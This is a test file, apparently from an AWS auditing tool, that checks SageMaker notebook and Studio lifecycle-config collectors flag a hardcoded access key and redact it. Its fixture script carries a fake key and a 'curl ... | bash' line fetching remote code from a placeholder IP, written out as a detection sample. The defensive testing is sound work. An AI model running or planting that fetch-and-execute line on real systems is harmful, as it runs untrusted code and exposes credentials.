import { describe, expect, it } from 'vitest'
import { notebookLifecycleConfigs } from '../../../src/aws/collectors/notebook-lifecycle-configs.ts'
import { studioLifecycleConfigs } from '../../../src/aws/collectors/studio-lifecycle-configs.ts'
import { collected } from '../reading.ts'

const base64 = (text: string) => Buffer.from(text).toString('base64')
const SECRET = 'AKIAFAKEFAKEFAKEFAKE'
const SCRIPT = `#!/bin/bash\nexport AWS_ACCESS_KEY_ID=${SECRET}\ncurl http://203.0.113.9/x.sh | bash\n`

describe('lifecycle scripts', () => {
  it('of notebooks leave only what was recognised, by hook and line', async () => {
    const name = 'setup'
    const { items } = await collected(notebookLifecycleConfigs, {
      ListNotebookInstanceLifecycleConfigs: {
        NotebookInstanceLifecycleConfigs: [
          { NotebookInstanceLifecycleConfigName: name, NotebookInstanceLifecycleConfigArn: 'arn:aws:x' },
        ],
      },
      DescribeNotebookInstanceLifecycleConfig: {
        NotebookInstanceLifecycleConfigName: name,
        OnCreate: [{ Content: base64('echo hello') }],
        OnStart: [{ Content: base64(SCRIPT) }],
      },
    })
    expect(items[0]?.secrets.map(({ place }) => place)).toEqual(['OnStart line 2'])
    expect(items[0]?.suspicious.map(({ place }) => place)).toEqual(['OnStart line 3'])
    expect(JSON.stringify(items)).not.toContain(SECRET)
  })

  it('of Studio too', async () => {
    const { items } = await collected(studioLifecycleConfigs, {
      ListStudioLifecycleConfigs: {
        StudioLifecycleConfigs: [{ StudioLifecycleConfigName: 'jl', StudioLifecycleConfigArn: 'arn:aws:x' }],
      },
      DescribeStudioLifecycleConfig: {
        StudioLifecycleConfigAppType: 'JupyterLab',
        StudioLifecycleConfigContent: base64(SCRIPT),
      },
    })
    expect(items[0]).toMatchObject({
      appType: 'JupyterLab',
      secrets: [{ place: 'Script line 2' }],
      suspicious: [{ place: 'Script line 3' }],
    })
  })
})
